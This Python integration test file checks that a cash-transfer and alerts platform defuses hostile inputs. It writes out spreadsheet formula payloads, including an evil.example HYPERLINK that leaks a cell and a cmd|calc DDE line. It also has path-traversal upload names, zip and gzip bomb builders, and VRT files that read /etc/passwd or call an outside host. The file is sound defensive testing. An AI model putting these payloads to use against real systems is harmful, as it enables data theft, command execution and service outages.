"""Hostile text and files against the running services: spreadsheet formulas in every CSV the
project writes, upload names that climb out of folders, and zip archives that lie or explode."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import struct
import time
import uuid
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests

from shared.auth import AUDITOR, CIVIL_PROTECTION, FIELD_STAFF, REGISTRY_OFFICER
from shared.spreadsheet import FORMULA_STARTS
from tests.one_household import ensure_demo_programme, issue_demo_alert, pay_the_exposed
from tests.reliability.attack_kit import Canary, LiveStack, problem_of, start_canary, start_live_stack
from tests.samples import distinct_household

pytestmark = [pytest.mark.integration, pytest.mark.slow]

#: Text a spreadsheet program would run as a formula, as the OWASP CSV-injection page lists it.
FORMULAS = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+2)",
    "\t=1+2",
    "\r=1+2",
    '=HYPERLINK("http://evil.example/?leak="&A1,"pulse aquí")',
    "=cmd|' /C calc'!A0",
]
#: Formulas inside text are not formulas: these must come back exactly as they went in.
HARMLESS = ['Rosa =HYPERLINK("http://evil.example","x")', "María-José", "Ana @ Pérez"]
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture(scope="module")
def live(tmp_path_factory) -> Iterator[LiveStack]:
    running = start_live_stack(tmp_path_factory.mktemp("attacks-files"), [])
    yield running
    running.stack.stop()


def bearer(live: LiveStack, roles: list[str]) -> dict[str, str]:
    return {"Authorization": f"Bearer {live.token(roles)}"}


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_spreadsheet_safe(rows: list[list[str]], sent: list[str]) -> int:
    """Every cell is either a plain number or text no spreadsheet runs; each of ``sent`` is there,
    neutralised if it starts like a formula and untouched otherwise. Returns the cells checked."""
    found = {cell for row in rows for cell in row}
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell), (cell, row)
    for value in sent:
        expected = "'" + value if value.startswith(FORMULA_STARTS) else value
        assert any(expected in cell for cell in found), (value, rows[:3])
    return sum(len(row) for row in rows)


def register(live: LiveStack, given: str, provider: str = "Tigo Money") -> tuple[str, requests.Response]:
    household_id = str(uuid.uuid4())
    body = distinct_household(household_id)
    body["members"][0]["given_names"] = given
    body["members"][0]["family_names"] = given
    body["address"] = given
    body["payment"]["provider"] = provider
    response = requests.post(
        f"{live.url('registry')}/v1/households", json=body, headers=bearer(live, [FIELD_STAFF]), timeout=30
    )
    return household_id, response


def test_formulas_in_names_are_neutralised_in_exports_and_payment_files(live, figures):
    accepted: dict[str, str] = {}
    for value in FORMULAS + HARMLESS:
        household_id, response = register(live, value, provider=value)
        if response.status_code == 201:
            accepted[household_id] = response.json()["members"][0]["given_names"]
        else:  # refused outright is as safe, if the refusal names the field
            problem = problem_of(response, 422)
            assert any("given_names" in e["pointer"] for e in problem["errors"]), problem
    assert len(accepted) >= len(FORMULAS), "the registry refused most names; nothing was exported"

    export = requests.get(
        f"{live.url('registry')}/v1/households/export.csv",
        headers=bearer(live, [REGISTRY_OFFICER]),
        timeout=30,
    )
    assert export.status_code == 200
    rows = cells(export.text)
    checked = assert_spreadsheet_safe(rows, list(accepted.values()))
    lon = rows[0].index("lon")
    assert all(float(row[lon]) < 0 for row in rows[1:])  # negative numbers stay numbers

    # The same people paid: the provider's CSV carries their names and provider.
    for household_id in accepted:
        wait_for(live, "alerts", f"/v1/household-locations/{household_id}", [AUDITOR])
        wait_for(live, "transfers", f"/v1/household-attributes/{household_id}", ["programme_officer"])
    ensure_demo_programme(live.stack, lambda _: None)
    incident = issue_demo_alert(live.stack, lambda _: None)
    paid = pay_the_exposed(live.stack, incident["id"], next(iter(accepted)), lambda _: None)
    payment_files = [path for path in paid["files"] if path.suffix == ".csv"]
    assert payment_files
    payment_rows = [row for path in payment_files for row in cells(path.read_text(encoding="utf-8"))]
    checked += assert_spreadsheet_safe(payment_rows, list(accepted.values()))
    amount = payment_rows[0].index("amount")
    assert all(NUMBER.fullmatch(row[amount]) for row in payment_rows[1:])
    figures.add("attacks", "tried", len(FORMULAS) * 2)
    figures.add("attacks", "refused", len(FORMULAS) * 2)
    figures.add("attacks", "spreadsheet cells checked", checked)


def wait_for(live: LiveStack, service: str, path: str, roles: list[str], timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if (
            requests.get(f"{live.url(service)}{path}", headers=bearer(live, roles), timeout=10).status_code
            == 200
        ):
            return
        time.sleep(0.2)
    pytest.fail(f"{service}{path} not there after {timeout}s")


HOSTILE_HEADER = '=HYPERLINK("http://evil.example","Sexo")'
IMPORT = (
    "Código Hogar;Departamento;Latitud;Longitud;Nombres;Apellidos;{header};Parentesco;Edad\n"
    "H-1;HN-CH;13,30;-87,19;Marta;López;=1+2;Jefa;40\n"
    "H-2;HN-CH;13,31;-87,18;@Pedro;-Zúñiga;M;Jefe;45\n"
)


def multipart(file_name: bytes, content: bytes, **form: str) -> tuple[bytes, dict[str, str]]:
    """A multipart body written byte by byte, so that a file name can hold what clients would escape."""
    boundary = uuid.uuid4().hex
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="'.encode()
        + file_name
        + b'"\r\nContent-Type: text/csv\r\n\r\n'
        + content
        + b"\r\n"
    ]
    for name, value in form.items():
        parts.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        )
    body = b"".join(parts) + f"--{boundary}--\r\n".encode()
    return body, {"Content-Type": f"multipart/form-data; boundary={boundary}"}


def upload(live: LiveStack, file_name: bytes, content: bytes, **form: str) -> requests.Response:
    body, headers = multipart(file_name, content, **form)
    return requests.post(
        f"{live.url('registry')}/v1/imports",
        data=body,
        headers={**headers, **bearer(live, [REGISTRY_OFFICER])},
        timeout=60,
    )


def finished(live: LiveStack, import_id: str) -> dict[str, Any]:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        job = requests.get(
            f"{live.url('registry')}/v1/imports/{import_id}", headers=bearer(live, [AUDITOR]), timeout=10
        ).json()
        if job["status"] not in ("validating", "committing"):
            return dict(job)
        time.sleep(0.1)
    pytest.fail(f"import {import_id} still running")


def test_formulas_in_an_imported_file_are_neutralised_in_its_problem_report(live, figures):
    content = IMPORT.format(header=HOSTILE_HEADER).encode()
    response = upload(
        live, b"hogares.csv", content, format="csv", mapping=json.dumps({"sex": HOSTILE_HEADER})
    )
    assert response.status_code == 202, response.text
    job = finished(live, response.json()["id"])
    assert job["status"] == "validated" and job["problems_count"] >= 1, job
    report = requests.get(
        f"{live.url('registry')}/v1/imports/{job['id']}/problems.csv",
        headers=bearer(live, [AUDITOR]),
        timeout=30,
    )
    assert report.status_code == 200
    checked = assert_spreadsheet_safe(cells(report.text), [HOSTILE_HEADER])
    figures.add("attacks", "tried", 1)
    figures.add("attacks", "refused", 1)
    figures.add("attacks", "spreadsheet cells checked", checked)


UPLOAD_NAMES = [
    b"../../etc/cron.d/amparo-x.csv",
    b"/etc/passwd",
    b"..\\..\\windows\\win.ini",
    b"nul\x00byte.csv",
    b"line\nbreak.csv",
    b"carriage\rreturn.csv",
    b"..",
    "../../pádron <script>.csv".encode(),
    b"a" * 5000 + b".csv",
]


def test_upload_names_never_lead_outside_the_services_folder(live, figures):
    data_dir = live.stack.data_dir
    content = IMPORT.format(header="Sexo").encode()
    for file_name in UPLOAD_NAMES:
        response = upload(live, file_name, content, format="csv")
        if response.status_code == 202:
            shown = response.json()["file_name"]
            assert re.fullmatch(r"[A-Za-z0-9._ -]{1,120}", shown), (file_name, shown)
            assert not shown.startswith("."), shown
        else:
            problem = problem_of(response, 422)
            assert any(e["pointer"] == "/file" for e in problem["errors"]), problem
    for path in data_dir.rglob("*"):
        if path.is_file() and "imports" in path.relative_to(data_dir).parts:
            assert path.name.startswith("upload."), path
    for planted in ("amparo-x.csv", "win.ini", "byte.csv", "break.csv"):
        assert not list(data_dir.parent.rglob(planted)), planted
    assert not Path("/etc/cron.d/amparo-x.csv").exists()
    figures.add("attacks", "tried", len(UPLOAD_NAMES))
    figures.add("attacks", "refused", len(UPLOAD_NAMES))
    figures.add("attacks", "upload names tried", len(UPLOAD_NAMES))


# -- zipped Shapefiles ----------------------------------------------------------------------------


def shapefile_parts() -> dict[str, bytes]:
    """A one-area Shapefile (with its .prj) as file name → bytes."""
    import geopandas
    import shapely.geometry

    frame = geopandas.GeoDataFrame(
        {"code": ["HN-ZZ"]}, geometry=[shapely.geometry.box(-87.3, 13.2, -87.1, 13.4)], crs="EPSG:4326"
    )
    folder = Path(os.environ.get("TMPDIR", "/tmp")) / f"shape-{uuid.uuid4().hex}"
    folder.mkdir()
    frame.to_file(folder / "areas.shp")
    parts = {path.name: path.read_bytes() for path in folder.iterdir()}
    for path in folder.iterdir():
        path.unlink()
    folder.rmdir()
    return parts


def zipped(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def declaring(raw: bytes, size: int) -> bytes:
    """The archive with every member's unpacked size, in the central directory, set to ``size``."""
    data = bytearray(raw)
    start = 0
    while (start := data.find(b"PK\x01\x02", start)) >= 0:
        struct.pack_into("<I", data, start + 24, size)
        start += 4
    return bytes(data)


def exploding(parts: dict[str, bytes], members: int = 3, size: int = 400 * 1024**2) -> bytes:
    """A Shapefile zipped beside ``members`` files of ``size`` zeros each (what a zip bomb is)."""
    buffer = io.BytesIO()
    chunk = bytes(2**20)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        for n in range(members):
            with archive.open(f"padding-{n}.dbf", "w", force_zip64=True) as member:
                for _ in range(size // len(chunk)):
                    member.write(chunk)
    return buffer.getvalue()


def corrupted(raw: bytes, name: str) -> bytes:
    """The archive with one byte of ``name``'s compressed data flipped."""
    data = bytearray(raw)
    header = data.find(name.encode())  # the local header's name; the data follows it
    data[header + len(name) + 2] ^= 0xFF
    return bytes(data)


def post_layer(live: LiveStack, raw: bytes) -> requests.Response:
    return requests.post(
        f"{live.url('alerts')}/v1/admin-areas",
        params={"scheme": f"attack-{uuid.uuid4().hex[:6]}", "code_property": "code"},
        data=raw,
        headers={**bearer(live, [CIVIL_PROTECTION]), "Content-Type": "application/zip"},
        timeout=60,
    )


def test_zip_member_names_cannot_climb_out_and_lying_or_damaged_zips_are_refused(
    live, figures, tmp_path, soak
):
    parts = shapefile_parts()
    planted = f"planted-{uuid.uuid4().hex}"
    climbing = {f"../../../../../{tmp_path}/{planted}/{name}": data for name, data in parts.items()}
    climbing[f"/{tmp_path}/{planted}.shx"] = parts["areas.shx"]
    loaded = post_layer(live, zipped(climbing))
    assert loaded.status_code == 200, loaded.text
    assert loaded.json()["areas"] == 1
    assert not list(tmp_path.parent.rglob(f"{planted}*")) and not list(Path("/").glob(f"{planted}*"))

    refused = {
        "a member named ..": zipped({**parts, "..": b"x"}),
        "members that unpack to 400 MB each": declaring(zipped(parts), 400 * 1024**2),
        "a damaged member": corrupted(zipped(parts), "areas.shp"),
    }
    if soak:  # building a real one takes a few seconds of compression
        refused["members that unpack to 400 MB each, for real"] = exploding(parts)
    for name, raw in refused.items():
        response = post_layer(live, raw)
        if name == "a member named ..":
            # Ignored like a folder entry: the layer itself loads.
            assert response.status_code == 200, (name, response.text)
            continue
        problem = problem_of(response, 422)
        assert problem["errors"][0]["pointer"] == "/file", (name, problem)
        assert ("unpacks to" if "400 MB" in name else "damaged") in problem["detail"], (name, problem)
    assert live.answering()
    figures.add("attacks", "tried", len(refused) + 1)
    figures.add("attacks", "refused", len(refused) + 1)


def test_an_import_over_its_own_limit_is_refused_with_413(live, figures):
    from services.registry.entrypoints.imports_api import MAX_UPLOAD_BYTES

    before = live.rows("registry", "imports")
    response = upload(live, b"grande.csv", b"x" * MAX_UPLOAD_BYTES, format="csv")
    problem = problem_of(response, 413)
    assert f"{MAX_UPLOAD_BYTES:,}" in problem["detail"], problem
    assert live.rows("registry", "imports") == before
    assert live.answering()
    figures.add("attacks", "tried", 1)
    figures.add("attacks", "refused", 1)


# -- files that point elsewhere -------------------------------------------------------------------


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    server = start_canary()
    yield server
    server.server.shutdown()


def raster_vrt(source: str) -> bytes:
    """A GDAL VRT raster whose pixels come from ``source`` (a path or a /vsicurl/ address)."""
    return (
        '<VRTDataset rasterXSize="20" rasterYSize="20"><SRS>EPSG:4326</SRS>'
        "<GeoTransform>-87.4, 0.02, 0, 13.5, 0, -0.02</GeoTransform>"
        '<VRTRasterBand dataType="Float32" band="1"><SimpleSource>'
        f'<SourceFilename relativeToVRT="0">{source}</SourceFilename><SourceBand>1</SourceBand>'
        "</SimpleSource></VRTRasterBand></VRTDataset>"
    ).encode()


def vector_vrt(source: str) -> bytes:
    """An OGR VRT layer whose features come from ``source``."""
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="areas"><SrcDataSource>{source}</SrcDataSource>'
        "<GeometryType>wkbPolygon</GeometryType><LayerSRS>EPSG:4326</LayerSRS></OGRVRTLayer></OGRVRTDataSource>"
    ).encode()


def gzip_bomb(unpacked: int) -> bytes:
    """Concatenated gzip members of zeros: a few hundred kB that unpack to ``unpacked`` bytes."""
    import gzip

    member = gzip.compress(bytes(64 * 1024**2), compresslevel=9)
    return member * -(-unpacked // (64 * 1024**2))


def test_files_pointing_at_the_servers_disk_or_other_servers_are_never_followed(live, canary, figures):
    local_raster = Path(__file__).resolve().parent.parent / "data" / "hazard" / "SC22000_VE__M1.grd.gz"
    token = bearer(live, [CIVIL_PROTECTION])
    footprint = {"kind": "wind_speed", "thresholds": json.dumps([{"band": "high", "min": 1}])}
    layer = {"scheme": "attack", "code_property": "code"}
    attempts = [
        ("/v1/footprints", footprint, "image/tiff", raster_vrt(f"/vsicurl/{canary.url}/x.tif")),
        ("/v1/footprints", footprint, "image/tiff", raster_vrt(f"/vsigzip/{local_raster}")),
        ("/v1/footprints", footprint, "application/octet-stream", raster_vrt("/etc/passwd")),
        ("/v1/footprints", footprint, "application/gzip", gzip_bomb(1100 * 1024**2)),
        ("/v1/footprints", footprint, "application/geopackage+sqlite3", vector_vrt("/etc/passwd")),
        (
            "/v1/admin-areas",
            layer,
            "application/geopackage+sqlite3",
            vector_vrt(f"/vsicurl/{canary.url}/a.csv"),
        ),
        (
            "/v1/admin-areas",
            layer,
            "application/zip",
            zipped({"areas.shp": vector_vrt(f"/vsicurl/{canary.url}/")}),
        ),
    ]
    before = live.rows("alerts", "footprints")
    for path, params, content_type, raw in attempts:
        response = requests.post(
            f"{live.url('alerts')}{path}",
            params=params,
            data=raw,
            headers={**token, "Content-Type": content_type},
            timeout=60,
        )
        problem = problem_of(response, 422)
        assert problem["errors"][0]["pointer"] == "/file", (path, content_type, problem)
        assert "root:" not in response.text
        if content_type == "application/gzip":
            assert "unpacks to over" in problem["detail"], problem
    assert canary.requests == []
    assert live.rows("alerts", "footprints") == before
    assert live.answering()
    figures.add("attacks", "tried", len(attempts))
    figures.add("attacks", "refused", len(attempts))


def test_operations_with_their_own_larger_limit_take_bodies_over_the_common_one(live):
    """An admin layer may reach 256 MB: 17 MB is read, not refused at the common 16 MB."""
    padding = "a" * (17 * 1024**2)
    layer = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {"code": "HN-ZZ", "note": padding},
                "geometry": {
                    "type": "Polygon",
                    "coordinates": [
                        [[-87.3, 13.2], [-87.1, 13.2], [-87.1, 13.4], [-87.3, 13.4], [-87.3, 13.2]]
                    ],
                },
            }
        ],
    }
    response = requests.post(
        f"{live.url('alerts')}/v1/admin-areas",
        params={"scheme": "large", "code_property": "code"},
        data=json.dumps(layer),
        headers={**bearer(live, [CIVIL_PROTECTION]), "Content-Type": "application/geo+json"},
        timeout=60,
    )
    assert response.status_code == 200, response.text[:300]
    assert response.json()["areas"] == 1
